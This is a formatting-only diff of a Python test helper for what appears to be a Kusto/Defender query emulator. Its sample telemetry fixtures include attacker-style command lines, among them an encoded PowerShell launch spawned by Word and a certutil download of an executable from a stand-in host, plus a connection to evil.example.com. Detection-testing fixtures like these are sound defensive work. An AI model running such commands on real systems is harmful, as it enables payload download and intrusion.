@@ -59,13 +59,23 @@ def load_cases(directory: Path = CASES_DIR) -> list[Case]:
                 error = result[len("error:") :].strip()
             else:
                 expected = json.loads(result)
-            cases.append(Case(path.stem, i, "\n".join(qlines).strip(), expected, error, "# ordered" in flags,
-                              "# spark" in flags))
+            cases.append(
+                Case(
+                    path.stem,
+                    i,
+                    "\n".join(qlines).strip(),
+                    expected,
+                    error,
+                    "# ordered" in flags,
+                    "# spark" in flags,
+                )
+            )
     return cases
 
 
 def _split(text: str, sep: str) -> list[str]:
-    out, cur = [], []
+    out: list[str] = []
+    cur: list[str] = []
     for ln in text.splitlines():
         if ln.strip() == sep:
             out.append("\n".join(cur))
@@ -83,8 +93,12 @@ def _split_once(lines: list[str], sep: str) -> tuple[list[str], list[str]]:
 
 def canonical(rows: list[dict[str, Any]], ordered: bool) -> list[str]:
     # column order matters (Kusto's output shape); key order inside dynamic bags does not
-    out = ["{" + ", ".join(f"{json.dumps(k)}: {json.dumps(v, sort_keys=True, default=str)}" for k, v in r.items()) + "}"
-           for r in rows]
+    out = [
+        "{"
+        + ", ".join(f"{json.dumps(k)}: {json.dumps(v, sort_keys=True, default=str)}" for k, v in r.items())
+        + "}"
+        for r in rows
+    ]
     return out if ordered else sorted(out)
 
 
@@ -94,8 +108,13 @@ def write_archive(root: Path, rows_by_table: dict[str, list[dict[str, Any]]]) ->
 
     with Archive(root) as archive:
         for table, rows in rows_by_table.items():
-            wire = [{k: (v.strftime("%Y-%m-%dT%H:%M:%S.%fZ") if isinstance(v, datetime) else v) for k, v in r.items()}
-                    for r in rows]
+            wire = [
+                {
+                    k: (v.strftime("%Y-%m-%dT%H:%M:%S.%fZ") if isinstance(v, datetime) else v)
+                    for k, v in r.items()
+                }
+                for r in rows
+            ]
             archive.append_rows(table, wire, source="tests")
     return root
 
@@ -112,7 +131,11 @@ def write_raw_parquet(root: Path, rows_by_table: dict[str, list[dict[str, Any]]]
         for day, day_rows in by_day.items():
             columns = {}
             for f in arrow_schema:
-                default = "" if pa.types.is_string(f.type) and f.name not in ("AdditionalFields", "_Extra") else None
+                default = (
+                    ""
+                    if pa.types.is_string(f.type) and f.name not in ("AdditionalFields", "_Extra")
+                    else None
+                )
                 columns[f.name] = pa.array([r.get(f.name, default) for r in day_rows], type=f.type)
             folder = root / table / f"date={day}"
             folder.mkdir(parents=True, exist_ok=True)
@@ -122,26 +145,68 @@ def write_raw_parquet(root: Path, rows_by_table: dict[str, list[dict[str, Any]]]
 
 def sample_rows() -> dict[str, list[dict[str, Any]]]:
     """A few hand-made Defender rows used by the archive tests."""
+
     def ts(day: int, hour: int, minute: int = 0) -> datetime:
         return datetime(2024, 6, day, hour, minute, tzinfo=UTC)
 
     proc = [
-        {"Timestamp": ts(14, 10), "DeviceId": "d1", "DeviceName": "host-a", "ActionType": "ProcessCreated",
-         "FileName": "powershell.exe", "ProcessCommandLine": "powershell.exe -enc SQBFAFgA -nop",
-         "InitiatingProcessFileName": "winword.exe", "AccountName": "alice", "ReportId": 1,
-         "AdditionalFields": '{"Tag":"x","Items":[1,2]}'},
-        {"Timestamp": ts(14, 11), "DeviceId": "d1", "DeviceName": "host-a", "ActionType": "ProcessCreated",
-         "FileName": "cmd.exe", "ProcessCommandLine": "cmd.exe /c whoami", "InitiatingProcessFileName": "explorer.exe",
-         "AccountName": "alice", "ReportId": 2, "AdditionalFields": None},
-        {"Timestamp": ts(15, 9, 30), "DeviceId": "d2", "DeviceName": "host-b", "ActionType": "ProcessCreated",
-         "FileName": "certutil.exe", "ProcessCommandLine": "certutil -urlcache -f http://x/a.exe",
-         "InitiatingProcessFileName": "cmd.exe", "AccountName": "bob", "ReportId": 3,
-         "AdditionalFields": '{"Tag":"y","Items":[]}'},
+        {
+            "Timestamp": ts(14, 10),
+            "DeviceId": "d1",
+            "DeviceName": "host-a",
+            "ActionType": "ProcessCreated",
+            "FileName": "powershell.exe",
+            "ProcessCommandLine": "powershell.exe -enc SQBFAFgA -nop",
+            "InitiatingProcessFileName": "winword.exe",
+            "AccountName": "alice",
+            "ReportId": 1,
+            "AdditionalFields": '{"Tag":"x","Items":[1,2]}',
+        },
+        {
+            "Timestamp": ts(14, 11),
+            "DeviceId": "d1",
+            "DeviceName": "host-a",
+            "ActionType": "ProcessCreated",
+            "FileName": "cmd.exe",
+            "ProcessCommandLine": "cmd.exe /c whoami",
+            "InitiatingProcessFileName": "explorer.exe",
+            "AccountName": "alice",
+            "ReportId": 2,
+            "AdditionalFields": None,
+        },
+        {
+            "Timestamp": ts(15, 9, 30),
+            "DeviceId": "d2",
+            "DeviceName": "host-b",
+            "ActionType": "ProcessCreated",
+            "FileName": "certutil.exe",
+            "ProcessCommandLine": "certutil -urlcache -f http://x/a.exe",
+            "InitiatingProcessFileName": "cmd.exe",
+            "AccountName": "bob",
+            "ReportId": 3,
+            "AdditionalFields": '{"Tag":"y","Items":[]}',
+        },
     ]
     net = [
-        {"Timestamp": ts(14, 10, 5), "DeviceId": "d1", "DeviceName": "host-a", "ActionType": "ConnectionSuccess",
-         "RemoteIP": "10.1.2.3", "RemotePort": 443, "RemoteUrl": "evil.example.com", "ReportId": 7},
-        {"Timestamp": ts(15, 9, 31), "DeviceId": "d2", "DeviceName": "host-b", "ActionType": "ConnectionSuccess",
-         "RemoteIP": "8.8.8.8", "RemotePort": 53, "RemoteUrl": "", "ReportId": 8},
+        {
+            "Timestamp": ts(14, 10, 5),
+            "DeviceId": "d1",
+            "DeviceName": "host-a",
+            "ActionType": "ConnectionSuccess",
+            "RemoteIP": "10.1.2.3",
+            "RemotePort": 443,
+            "RemoteUrl": "evil.example.com",
+            "ReportId": 7,
+        },
+        {
+            "Timestamp": ts(15, 9, 31),
+            "DeviceId": "d2",
+            "DeviceName": "host-b",
+            "ActionType": "ConnectionSuccess",
+            "RemoteIP": "8.8.8.8",
+            "RemotePort": 53,
+            "RemoteUrl": "",
+            "ReportId": 8,
+        },
     ]
     return {"DeviceProcessEvents": proc, "DeviceNetworkEvents": net}
